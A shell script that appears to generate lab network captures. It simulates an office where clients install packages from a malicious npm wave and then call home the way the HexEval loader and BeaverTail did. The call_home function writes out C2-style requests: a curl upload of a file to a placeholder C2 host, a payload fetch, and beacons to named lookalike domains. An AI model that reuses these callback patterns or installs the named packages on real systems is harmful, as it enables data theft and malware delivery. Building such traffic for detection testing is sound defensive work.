# scenes.sh: what the clients do in each capture: scene_NAME, and a line about it in SCENES. Sourced.
HTTP_REGISTRY=http://npm.corp.example/ HTTPS_REGISTRY=https://npm.corp.example/
TREE='@corp/app-kit tiny-router'
BAD='react-plaid-sdk@2.0.15 sumsub-node-websdk'
web() { in_client 15 curl -sS --cacert "$work/tls/ca.pem" "$@" > /dev/null; }

SCENES='
office|An office for half a minute: good web traffic over HTTP, TLS 1.2, TLS 1.3 and IPv6; 10.20.0.15 installs two packages of the June 2025 wave with npm 11, whose stand-ins are harmless, and then calls home as the HexEval loader and BeaverTail did; 10.20.0.22 installs another one with pnpm; 10.20.0.31 installs good ones only
'

call_home() { # what the loader and BeaverTail do after the installation: curl and node, to servers of the lab
    in_client 15 env NODE_EXTRA_CA_CERTS="$work/tls/ca.pem" node -e '
        const https = require("https");
        https.get({ host: "ip-check-server.vercel.app", path: "/api/ip-check/208", localAddress: "10.20.0.15" },
            (answer) => answer.resume());'
    web --interface 10.20.0.15 "http://$C2_LISTED:1224/client/9/208"
    web --interface 10.20.0.15 -F ts=1750800000 -F type=9 -F "multi_file=@$work/web/www/index.html" "http://$C2_LISTED:1224/uploads"
    web --interface 10.20.0.15 "http://$C2_BARE:1244/pdown"
}

scene_office() {
    web --interface 10.20.0.31 http://www.example/ http://www.example/a.html
    web --interface 10.20.0.31 --tlsv1.3 https://docs.example.com/ https://docs.example.com/b.html
    web --interface 10.20.0.22 --tls-max 1.2 https://mail.example/
    web --interface 2001:db8:20::31 -6 https://www.example/c.html
    ADDRESS=10.20.0.31 install npm10 $HTTP_REGISTRY $TREE
    ADDRESS=10.20.0.15 install npm11 $HTTP_REGISTRY $TREE $BAD
    call_home
    ADDRESS=10.20.0.22 install pnpm $HTTP_REGISTRY tiny-router vite-plugin-tools
    in_client 5 dig +short @10.20.0.1 -b 10.20.0.22 log-server-lovat.vercel.app > /dev/null
    web --interface 10.20.0.22 --tls-max 1.2 https://log-server-lovat.vercel.app/api/ipcheck/703
    web --interface 10.20.0.31 --tlsv1.3 https://www.example/
}
